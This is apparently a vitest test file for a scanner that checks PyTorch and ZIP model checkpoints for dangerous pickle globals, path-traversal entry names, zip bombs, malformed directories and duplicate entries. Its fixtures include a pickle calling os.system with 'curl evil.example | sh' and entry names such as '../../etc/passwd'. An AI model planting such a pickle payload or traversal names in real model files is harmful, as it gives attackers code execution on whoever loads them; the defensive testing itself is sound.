import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../subgraphs/model-attestation/domain/scan/byte-source.ts';
import type { Finding } from '../../../subgraphs/model-attestation/domain/scan/findings.ts';
import { scanZipCheckpoint } from '../../../subgraphs/model-attestation/domain/scan/zip-checkpoint.ts';
import {
  countingSource,
  pickleCall,
  torchCheckpointOf,
  zipOf,
} from '../../support/model-artifacts.ts';

const evil = (): Buffer => pickleCall('os', 'system', ['curl evil.example | sh']);

function brief(findings: Finding[]): [string, string, string][] {
  return findings.map((f) => [f.severity, f.code, f.path]);
}

describe('scanZipCheckpoint', () => {
  it('passes a realistic PyTorch checkpoint, plain and ZIP64', async () => {
    expect(await scanZipCheckpoint(bufferSource('model.pt', torchCheckpointOf()))).toEqual([]);
    expect(
      await scanZipCheckpoint(bufferSource('model.pt', torchCheckpointOf({ zip64: true }))),
    ).toEqual([]);
  });

  it('finds os.system planted in archive/data.pkl, stored or deflated, with the entry path', async () => {
    const stored = torchCheckpointOf({ dataPkl: evil() });
    expect(await scanZipCheckpoint(bufferSource('model.pt', stored))).toEqual([
      {
        severity: 'CRITICAL',
        code: 'PICKLE_DANGEROUS_GLOBAL',
        message: expect.stringContaining('os.system') as string,
        path: 'model.pt!/archive/data.pkl',
        offset: 2,
      },
    ]);
    const deflated = zipOf([
      { name: 'ckpt/data.pkl', data: evil(), method: 8 },
      { name: 'ckpt/version', data: Buffer.from('3\n'), method: 8 },
    ]);
    expect(brief(await scanZipCheckpoint(bufferSource('model.pt', deflated)))).toEqual([
      ['CRITICAL', 'PICKLE_DANGEROUS_GLOBAL', 'model.pt!/ckpt/data.pkl'],
    ]);
    const zip64 = torchCheckpointOf({ dataPkl: evil(), zip64: true });
    expect(brief(await scanZipCheckpoint(bufferSource('model.pt', zip64)))).toEqual([
      ['CRITICAL', 'PICKLE_DANGEROUS_GLOBAL', 'model.pt!/archive/data.pkl'],
    ]);
  });

  it('scans entries that look like pickles whatever their name', async () => {
    const file = zipOf([{ name: 'archive/extra/blob', data: evil(), method: 0 }]);
    expect(brief(await scanZipCheckpoint(bufferSource('m.pt', file)))).toEqual([
      ['CRITICAL', 'PICKLE_DANGEROUS_GLOBAL', 'm.pt!/archive/extra/blob'],
    ]);
  });

  it('finds a pickle nested in a zip nested in a zip, and reports deeper nesting', async () => {
    const inner = zipOf([{ name: 'inner/data.pkl', data: evil(), method: 8 }]);
    const outer = zipOf([{ name: 'outer/nested.zip', data: inner, method: 8 }]);
    expect(await scanZipCheckpoint(bufferSource('model.zip', outer))).toEqual([
      {
        severity: 'CRITICAL',
        code: 'PICKLE_DANGEROUS_GLOBAL',
        message: expect.stringContaining('os.system') as string,
        path: 'model.zip!/outer/nested.zip!/inner/data.pkl',
        offset: 2,
      },
    ]);
    const deepest = zipOf([{ name: 'l3/data.pkl', data: evil(), method: 0 }]);
    const l2 = zipOf([{ name: 'l2/inner.zip', data: deepest, method: 0 }]);
    const l1 = zipOf([{ name: 'l1/outer.zip', data: l2, method: 0 }]);
    expect(brief(await scanZipCheckpoint(bufferSource('top.zip', l1)))).toEqual([
      ['MEDIUM', 'ZIP_NESTED', 'top.zip!/l1/outer.zip!/l2/inner.zip'],
    ]);
  });

  it('reports entry names that escape the extraction directory', async () => {
    const names = ['../../etc/passwd', '/etc/cron.d/x', 'archive\\..\\x', 'a\u0000b'];
    const file = zipOf(names.map((name) => ({ name, data: Buffer.from('x'), method: 0 })));
    const findings = await scanZipCheckpoint(bufferSource('evil.zip', file));
    expect(findings[0]).toEqual({
      severity: 'CRITICAL',
      code: 'ZIP_PATH_TRAVERSAL',
      message: 'entry name "../../etc/passwd" has a ".." segment',
      path: 'evil.zip!/../../etc/passwd',
      offset: 0,
    });
    expect(brief(findings)).toEqual([
      ['CRITICAL', 'ZIP_PATH_TRAVERSAL', 'evil.zip!/../../etc/passwd'],
      ['CRITICAL', 'ZIP_PATH_TRAVERSAL', 'evil.zip!//etc/cron.d/x'],
      ['CRITICAL', 'ZIP_PATH_TRAVERSAL', 'evil.zip!/archive\\..\\x'],
      ['CRITICAL', 'ZIP_PATH_TRAVERSAL', 'evil.zip!/a\\x00b'],
    ]);
  });

  it('flags a 50 MB deflated entry as a bomb without reading (or inflating) its data', async () => {
    const bomb = Buffer.alloc(50 * 1024 * 1024);
    // Stored bytes after the bomb keep it out of the tail the scanner reads for the directory.
    const file = zipOf([
      { name: 'archive/data.pkl', data: bomb, method: 8 },
      { name: 'archive/data/0', data: Buffer.alloc(200 * 1024, 7), method: 0 },
    ]);
    const compressedSize = file.readUInt32LE(18);
    expect(compressedSize).toBeLessThan(100 * 1024);
    const dataStart = 30 + 'archive/data.pkl'.length;
    const source = countingSource('model.pt', file);
    expect(await scanZipCheckpoint(source)).toEqual([
      {
        severity: 'HIGH',
        code: 'ZIP_BOMB',
        message: expect.stringMatching(
          /declares 52428800 bytes from \d+ compressed \(ratio \d+ > 200\)/,
        ) as string,
        path: 'model.pt!/archive/data.pkl',
        offset: 0,
      },
    ]);
    const touched = source.reads.filter(
      ([s, e]) => s < dataStart + compressedSize && e > dataStart,
    );
    expect(touched).toEqual([]);
  });

  it('refuses to inflate past a lying declared size', async () => {
    const padded = Buffer.concat([evil(), Buffer.alloc(100_000)]);
    const file = zipOf([{ name: 'archive/data.pkl', data: padded, method: 8, declaredSize: 100 }]);
    expect(await scanZipCheckpoint(bufferSource('m.pt', file))).toEqual([
      {
        severity: 'HIGH',
        code: 'ZIP_BOMB',
        message: 'entry inflates past its declared 100 bytes',
        path: 'm.pt!/archive/data.pkl',
        offset: 0,
      },
    ]);
  });

  it('reports too many entries, unsupported methods, CRC mismatches and duplicates', async () => {
    const three = zipOf(
      ['a', 'b', 'c'].map((name) => ({ name, data: Buffer.from(name), method: 0 })),
    );
    expect(brief(await scanZipCheckpoint(bufferSource('x.zip', three), { maxEntries: 2 }))).toEqual(
      [['HIGH', 'ZIP_TOO_MANY_ENTRIES', 'x.zip']],
    );
    const lzma = zipOf([{ name: 'archive/data.pkl', data: evil(), method: 14 }]);
    expect(await scanZipCheckpoint(bufferSource('x.zip', lzma))).toEqual([
      {
        severity: 'MEDIUM',
        code: 'ZIP_UNSUPPORTED_METHOD',
        message: 'compression method 14 is not supported; entry was not inspected',
        path: 'x.zip!/archive/data.pkl',
        offset: 0,
      },
    ]);
    const crc = zipOf([{ name: 'archive/data.pkl', data: evil(), method: 8, declaredCrc: 1234 }]);
    expect(brief(await scanZipCheckpoint(bufferSource('x.zip', crc)))).toEqual([
      ['MEDIUM', 'ZIP_CRC_MISMATCH', 'x.zip!/archive/data.pkl'],
      ['CRITICAL', 'PICKLE_DANGEROUS_GLOBAL', 'x.zip!/archive/data.pkl'],
    ]);
    const dup = zipOf([
      { name: 'archive/data.pkl', data: pickleCall('collections', 'OrderedDict', []), method: 0 },
      { name: 'archive/data.pkl', data: evil(), method: 0 },
    ]);
    expect(brief(await scanZipCheckpoint(bufferSource('x.zip', dup)))).toEqual([
      ['MEDIUM', 'ZIP_DUPLICATE_ENTRY', 'x.zip!/archive/data.pkl'],
      ['CRITICAL', 'PICKLE_DANGEROUS_GLOBAL', 'x.zip!/archive/data.pkl'],
    ]);
  });

  it('reports a missing or lying central directory as ZIP_MALFORMED', async () => {
    const file = torchCheckpointOf();
    expect(
      await scanZipCheckpoint(bufferSource('m.pt', file.subarray(0, file.length - 30))),
    ).toEqual([
      {
        severity: 'HIGH',
        code: 'ZIP_MALFORMED',
        message: 'malformed zip: no end of central directory record',
        path: 'm.pt',
        offset: null,
      },
    ]);
    const lying = Buffer.from(file);
    lying.writeUInt32LE(0x7fff0000, lying.length - 6); // central directory offset
    expect(await scanZipCheckpoint(bufferSource('m.pt', lying))).toEqual([
      {
        severity: 'HIGH',
        code: 'ZIP_MALFORMED',
        message: 'malformed zip: central directory runs past its end record',
        path: 'm.pt',
        offset: lying.length - 22,
      },
    ]);
    const wrongCount = Buffer.from(file);
    wrongCount.writeUInt16LE(99, wrongCount.length - 12); // total entries
    expect(brief(await scanZipCheckpoint(bufferSource('m.pt', wrongCount)))).toEqual([
      ['HIGH', 'ZIP_MALFORMED', 'm.pt'],
    ]);
  });
});
